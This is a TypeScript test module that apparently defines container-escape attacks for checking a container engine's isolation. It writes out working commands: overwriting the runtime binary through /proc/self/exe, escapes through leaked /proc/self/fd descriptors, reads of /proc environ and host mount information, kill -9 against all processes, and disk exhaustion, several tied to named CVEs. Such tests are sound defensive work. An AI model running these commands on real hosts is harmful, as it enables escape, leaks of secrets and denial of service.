import { existsSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
import { commandLine, descendants } from '../support/processes.js';
import type { Attack } from './attack.js';
import { mountsOf } from './scene.js';

/** What a process in a container tries to reach of the host: files, descriptors, processes, sockets, names. */

const TRACER = ['--cap-add', 'SYS_PTRACE', '--security-opt', 'seccomp=unconfined'];

/** A race with what is there for a moment only. */
async function often(times: number, once: () => Promise<unknown>): Promise<void> {
  for (let round = 0; round < times; round++) await once();
}

/** From the first moment on: what PID 1 and others hold while the container is made. */
function descriptors(flags: string[]): Attack {
  return {
    name: `descriptors of PID 1 while the container starts, by one with ${flags.includes('--privileged') ? '--privileged' : 'SYS_PTRACE'}`,
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626 (its class)',
    flags,
    commit: (scene) =>
      often(10, () => scene.run(['attacker', 'descriptors', scene.ground.victim, '1', '2', 'self'])),
  };
}

export const REACH: Attack[] = [
  descriptors(['--cap-add', 'SYS_PTRACE']),
  descriptors(['--privileged']),
  {
    name: 'descriptors, memory, directories and namespaces of all processes (ptrace, pidfd_getfd, setns)',
    aim: 'escape',
    by: 'process',
    flags: TRACER,
    alsoAsRoot: true,
    weakenedByRoot: ['--userns', 'host', '--privileged', '--pid', 'host'],
    commit: async (scene) =>
      void (await often(3, () => scene.run(['attacker', 'trace', scene.ground.victim]))),
  },
  {
    name: 'the same, of one who enters by exec',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2016-9962',
    flags: TRACER,
    commit: async (scene) => {
      const name = await scene.detach(
        `sleep 0.5; while true; do attacker trace ${scene.ground.victim}; done`,
      );
      await often(6, () => scene.command(['exec', name, 'sleep', '0.05']));
      scene.reveal((await scene.engine.command(['logs', name])).output);
    },
  },
  {
    name: 'the root, the working directory and the program of PID 1',
    aim: 'host read',
    by: 'process',
    weakenedBy: ['-v', '/tmp:/tmp'],
    commit: async (scene) => {
      const path = scene.ground.victim;
      await scene.shell(`for p in 1 2 self; do cat /proc/$p/root${path} /proc/$p/cwd${path} /proc/$p/cwd/../../..${path}
        echo written >> /proc/$p/root${path}; done`);
    },
  },
  {
    name: "the engine's program is written over by /proc/self/exe",
    aim: 'host write',
    by: 'process',
    reference: 'CVE-2019-5736',
    flags: ['--cap-add', 'ALL'],
    commit: async (scene) => {
      const programs = ['/usr/bin/crun', '/usr/bin/podman', '/usr/bin/conmon', process.execPath].filter(
        existsSync,
      );
      const dist = join(process.env.FOSTER ?? 'dist/foster', '..', process.arch, 'foster-init');
      const look = () =>
        [...programs, dist].map((path) => `${lstatSync(path).mtimeMs} ${lstatSync(path).size}`).join();
      const before = look();
      const script =
        'printf "#!/proc/self/exe\\n" > /trap; chmod +x /trap; (while true; do for e in /proc/[0-9]*/exe; do echo x >> $e; done; done) & sleep 1';
      const name = await scene.detach(script);
      await often(3, () => scene.command(['exec', name, '/trap']));
      return look() !== before;
    },
  },
  {
    name: 'a working directory by a descriptor that was left open: -w /proc/self/fd/N',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626',
    commit: async (scene) => {
      const path = scene.ground.victim;
      for (let fd = 3; fd < 12; fd++)
        await scene.shell(`cat ../../../../../../..${path} .${path}`, {
          flags: ['-w', `/proc/self/fd/${fd}`],
        });
    },
  },
  {
    name: 'the same by exec',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2024-21626',
    commit: async (scene) => {
      const name = await scene.detach('sleep 100');
      const path = scene.ground.victim;
      for (let fd = 3; fd < 12; fd++)
        await scene.command([
          'exec',
          '-w',
          `/proc/self/fd/${fd}`,
          name,
          'cat',
          `../../../../../../..${path}`,
          `.${path}`,
        ]);
    },
  },
  {
    name: 'kill(-1): all that may be signalled',
    aim: 'host write',
    by: 'process',
    flags: ['--cap-add', 'KILL'],
    weakenedBy: ['--pid', 'host'],
    commit: async (scene) => {
      // With the host's processes to be seen, only one of them: all would end the tests too.
      const target = scene.flags.includes('host') ? String(scene.ground.canary.pid) : '-1';
      const { isTooLate } = await scene.shell(
        `for s in TERM HUP KILL; do kill -$s -- ${target}; done; kill -9 1; exit 3`,
      );
      return isTooLate;
    },
  },
  {
    name: 'processes that outlive the container: in sessions of their own, deaf to signals',
    aim: 'exhaustion',
    by: 'process',
    flags: ['--stop-timeout', '1'],
    commit: async (scene) => {
      await scene.run(['attacker', 'bomb', '300', scene.token], { deadline: 60_000 });
      return descendants().some(({ pid }) => commandLine(pid).includes(scene.token));
    },
  },
  {
    name: 'an abstract Unix socket of the host',
    aim: 'escape',
    by: 'process',
    reference: 'CVE-2020-15257',
    weakenedBy: ['--network', 'host'],
    commit: async (scene) =>
      void (await scene.run(['attacker', 'connect', 'abstract', scene.ground.abstractName])),
  },
  {
    name: "a server on the host's loopback device",
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--network', 'host'],
    commit: async (scene) =>
      void (await scene.run(['attacker', 'connect', 'loopback', String(scene.ground.port)])),
  },
  {
    name: 'names of folders of the host: mounts, cgroups, options of the overlay',
    aim: 'leak',
    by: 'process',
    commit: async (scene) => {
      const { output } = await scene.shell(
        'cat /proc/self/mountinfo /proc/1/mountinfo /proc/self/cgroup /proc/1/maps',
      );
      return output.includes(scene.engine.home.folder);
    },
  },
  {
    name: 'the environment and the command line of the engine',
    aim: 'leak',
    by: 'process',
    commit: async (scene) => {
      const { output } = await scene.shell(
        'env; cat /proc/*/environ /proc/*/cmdline; cat /proc/[0-9]*/auxv | wc -c',
      );
      return output.includes('the-environment-of-the-host');
    },
  },
  {
    name: 'processes of the host in /proc',
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--pid', 'host'],
    commit: async (scene) => {
      const { output } = await scene.shell(
        'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline || cat $p/cmdline; done',
      );
      return /node|systemd|sleep\W1000/.test(output);
    },
  },
  {
    name: "the engine's own folders, by their path",
    aim: 'host write',
    by: 'process',
    weakenedBy: ['-v', '/tmp:/tmp'],
    commit: async (scene) => {
      const data = join(scene.engine.home.folder, 'data');
      const mark = join(scene.engine.home.folder, scene.token);
      await scene.shell(`ls ${data}; echo x > ${mark}; echo x > /proc/1/cwd/${mark}`);
      return existsSync(mark);
    },
  },
  {
    name: 'the session bus and the agents of the caller, by variables and /run',
    aim: 'leak',
    by: 'process',
    commit: async (scene) => {
      const env = {
        SSH_AUTH_SOCK: '/tmp/agent',
        DBUS_SESSION_BUS_ADDRESS: `unix:abstract=${scene.ground.abstractName}`,
      };
      const { output } = await scene.shell('env; ls /run/user /tmp', { env });
      return /SSH_AUTH_SOCK|DBUS|foster-home/.test(output);
    },
  },
  {
    name: 'paths that must not be seen: /proc/keys, /proc/timer_list, /sys/firmware are hidden by nothing else than the host’s null',
    aim: 'leak',
    by: 'process',
    weakenedBy: ['--privileged'],
    commit: async (scene) => {
      let isOpen = false;
      const look = () => {
        const mounts = mountsOf(scene.processes()[0] ?? 0);
        isOpen = ['/proc/keys', '/proc/timer_list'].some(
          (place) => existsSync(place) && !isMasked(mounts, place),
        );
        for (const pid of scene.processes()) process.kill(pid, 'SIGKILL');
      };
      await scene.shell('echo holding; while true; do sleep 1; done', { when: { says: 'holding', look } });
      return isOpen;
    },
  },
  {
    name: 'the file system of the image fills up with a hole that is as large as can be',
    aim: 'exhaustion',
    by: 'process',
    commit: async (scene) => {
      const { isTooLate } = await scene.shell(
        'truncate -s 8E /big || dd if=/dev/zero of=/big bs=1 count=1 seek=8E; true',
      );
      return isTooLate;
    },
  },
];

/** The device null of the host, not what lies in the container under its name. */
export function isMasked(mounts: ReturnType<typeof mountsOf>, place: string): boolean {
  const last = mounts.findLast((mount) => mount.place === place);
  return last !== undefined && (last.root === '/null' || last.type === 'tmpfs') && last.type !== 'proc';
}
